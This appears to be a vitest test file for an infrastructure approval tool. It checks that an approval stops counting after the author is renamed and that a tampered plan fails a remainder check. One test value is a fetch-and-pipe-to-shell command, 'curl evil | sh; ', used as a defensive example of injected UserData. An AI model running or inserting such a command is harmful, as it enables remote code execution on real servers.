/** Saying yes to one's own change under another name, or to one plan and getting another. */
import { describe, expect, test } from 'vitest';
import { isRemainder } from '../../src/apply/remainder.ts';
import type { Statement } from '../../src/approval/approval.ts';
import { type DecisionInput, decide } from '../../src/approval/decide.ts';
import { unknown } from '../../src/base/value.ts';
import type { Change, Plan } from '../../src/plan/plan.ts';
import { plainChange } from '../plan/plain-change.ts';

const create = (of: Partial<Change>): Change => ({
  logicalId: 'Web',
  type: 'AWS::EC2::Instance',
  action: 'create',
  ...plainChange,
  ...of,
});

const planOf = (change: Change): Plan => ({
  format: 1,
  stack: 'acme/shop:infra/shop.yaml@prod',
  environment: 'prod',
  account: '222222222222',
  region: 'eu-west-1',
  file: 'infra/shop.yaml',
  changes: [change],
  deposed: [],
  outputs: [],
  digest: 'd1',
});

describe('an author who is renamed after saying yes', () => {
  const plan = planOf(create({}));
  const yes: Statement = {
    kind: 'comment',
    id: 1,
    login: 'author',
    isBot: false,
    at: '2026-01-01T00:00:00Z',
    edited: false,
    dismissed: false,
    answer: 'yes',
    digests: { [plan.stack]: plan.digest },
  };
  const input = (permission: 'none' | 'write'): DecisionInput => ({
    plan,
    rules: [{ from: ['@author', '@acme/infra'], count: 1 }],
    findings: [],
    statements: [yes],
    // GitHub knows nobody by the old name, and gives the pull request the new one.
    people: [{ login: 'author', permission, teams: [] }],
    author: 'author-renamed',
    committers: ['author-renamed'],
    overrides: [],
    owners: [],
    members: {},
    labels: [],
    paths: [],
  });

  test('does not count as somebody else: the old name has no access any more', () => {
    expect(decide(input('none')).allowed).toBe(false);
    expect(decide(input('none')).rejected[0]?.kind).toBe('no-right');
  });

  test('where the same name with access does count', () => {
    expect(decide(input('write')).allowed).toBe(true);
  });
});

describe('a value that was open when the plan was approved, after an apply that failed', () => {
  const userData = (script: string) => ({ UserData: { 'Fn::Join': ['', [script, { Ref: 'Vpc' }]] } });
  const approved = planOf(create({ after: { UserData: unknown }, desired: userData('start ') }));
  const left = (script: string) =>
    planOf(create({ after: { UserData: `${script}vpc-1` }, desired: userData(script) }));

  test.each([
    ['is what it was', 'start ', true],
    ['holds another text, because its parameter in SSM was written meanwhile', 'curl evil | sh; ', false],
  ])('%s', (_, script, expected) => {
    expect(isRemainder(left(script), approved)).toBe(expected);
  });
});
